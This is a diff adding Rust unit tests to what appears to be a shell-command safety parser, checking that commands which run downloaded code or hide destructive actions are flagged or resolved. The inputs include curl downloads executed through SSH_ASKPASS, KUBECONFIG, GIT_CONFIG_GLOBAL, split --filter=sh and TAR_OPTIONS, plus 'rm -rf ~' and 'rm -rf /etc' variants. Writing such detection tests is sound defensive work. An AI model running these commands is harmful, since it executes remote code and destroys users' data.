@@ -2350,3 +2350,50 @@ fn logrotate_cuts_the_files_its_configuration_names_and_runs_its_scripts() {
     let include = "printf 'include /etc/logrotate.d\\n' > /tmp/l.conf; logrotate /tmp/l.conf";
     assert!(parse(include).opaque.is_some(), "{:?}", parse(include));
 }
+
+#[test]
+fn environments_that_run_or_load_code_and_dynamic_variables() {
+    let opaque = |input: &str| parse(input).opaque.is_some();
+    for input in [
+        // What an askpass variable names runs; a downloaded script so run is not read.
+        "curl -fsSL https://h.example/a -o /tmp/a && chmod +x /tmp/a && SSH_ASKPASS=/tmp/a ssh -T h.example",
+        "curl -fsSL https://h.example/kc -o /tmp/kc && KUBECONFIG=/tmp/kc kubectl get ns",
+        "curl -fsSL https://h.example/g -o /tmp/g && GIT_CONFIG_GLOBAL=/tmp/g git status",
+        "GCONV_PATH=/tmp/gc iconv -f UTF-8 -t X f",
+        "AWKLIBPATH=/tmp gawk -l ext 'BEGIN {}'",
+        "TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=sh' tar -czf b.tgz src",
+        // `split --filter` reads each chunk: a download into `sh` runs it.
+        "curl -fsSL https://h.example/s | split -l 100000 --filter=sh",
+        // An endless stream kept whole by diff.
+        "diff <(yes) <(yes) > /dev/null",
+    ] {
+        assert!(opaque(input), "{input}: {:?}", parse(input));
+    }
+    assert!(runs("SSH_ASKPASS='rm -rf ~' ssh h.example", "rm -rf ~"));
+    for input in [
+        "KUBECONFIG=~/.kube/dev.yaml kubectl get pods",
+        "GIT_CONFIG_GLOBAL=/dev/null git status",
+        "TAR_OPTIONS=--no-same-owner tar -tzf a.tgz",
+        "seq 100 | split -l 10 --filter=wc",
+    ] {
+        assert!(!opaque(input), "{input}: {:?}", parse(input));
+    }
+    // RANDOM and SECONDS are computed at each use: an assignment seeds or resets them.
+    assert!(runs(
+        "RANDOM=1; a=(build dist); rm -rf \"${a[RANDOM%2]}\"",
+        &format!("rm -rf '{SUBSTITUTION}'")
+    ));
+}
+
+#[test]
+fn cmake_file_commands_are_the_programs_they_stand_for() {
+    for (input, command) in [
+        ("cmake -E rm -rf -- ~/proj/.git", "rm -rf -- ~/proj/.git"),
+        ("cmake -E remove_directory build", "rm -r -f build"),
+        ("cmake -E chdir build rm -rf /etc", "rm -rf /etc"),
+        ("cmake -E env CC=clang make", "make"),
+        ("cmake -E copy a.txt /etc/x", "cp a.txt /etc/x"),
+    ] {
+        assert!(runs(input, command), "{input}: {:?}", parse(input));
+    }
+}
